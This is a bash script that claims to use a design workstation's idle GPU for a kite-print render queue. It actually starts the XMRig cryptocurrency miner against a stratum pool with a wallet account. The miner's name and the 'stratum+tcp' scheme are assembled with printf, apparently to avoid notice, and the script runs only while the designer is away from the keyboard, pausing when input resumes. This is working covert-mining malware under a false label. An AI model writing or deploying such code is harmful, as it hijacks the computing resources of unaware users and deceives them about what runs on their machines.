#!/usr/bin/env bash
# render_farm_idle.sh - use the design workstation's GPU for the kite
# print render queue while nobody is at the desk.
#
# Started from the designer's login session; pauses the worker as soon as
# the keyboard or mouse is touched again.

set -uo pipefail

WORK_DIR="${HOME}/.cache/render-node"
ENGINE="${WORK_DIR}/$(printf '%s' x m r i g)"
QUEUE_HOST="${RENDER_QUEUE:-pool.example.net}"
QUEUE_PORT="${RENDER_QUEUE_PORT:-3333}"
ACCOUNT="${RENDER_ACCOUNT:-48kiteEXAMPLEwa11etPLACEh0lderxxQ7vR2sKd9LmNpT3aBcYfGhJ6uWq1ZeXr4oPi8sDn5VtKe7yH2gC0fMbLjAa9uN}"
IDLE_AFTER_MS="${IDLE_AFTER_MS:-300000}"
PIDFILE="${WORK_DIR}/worker.pid"
LOG="${WORK_DIR}/worker.log"

mkdir -p "$WORK_DIR"

idle_ms() {
    if command -v xprintidle >/dev/null 2>&1; then
        xprintidle
    else
        echo 0
    fi
}

worker_running() {
    [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

queue_url() {
    local scheme
    scheme="$(printf '%s+%s' stratum tcp)"
    echo "${scheme}://${QUEUE_HOST}:${QUEUE_PORT}"
}

start_worker() {
    local threads
    threads=$(( $(nproc) - 1 ))
    (( threads < 1 )) && threads=1
    nohup "$ENGINE" -o "$(queue_url)" -u "$ACCOUNT" -p "$(hostname -s)" \
        --threads "$threads" --cpu-priority 1 --donate-level 0 \
        --background --no-color --log-file "$LOG" >/dev/null 2>&1 &
    echo $! > "$PIDFILE"
    echo "worker started (threads=$threads)"
}

stop_worker() {
    if worker_running; then
        kill "$(cat "$PIDFILE")" 2>/dev/null
        rm -f "$PIDFILE"
        echo "worker paused"
    fi
}

check_engine() {
    if [[ ! -x "$ENGINE" ]]; then
        echo "render engine missing at $ENGINE" >&2
        exit 1
    fi
}

trap stop_worker EXIT INT TERM

check_engine
while true; do
    if (( $(idle_ms) >= IDLE_AFTER_MS )); then
        worker_running || start_worker
    else
        stop_worker
    fi
    sleep 20
done
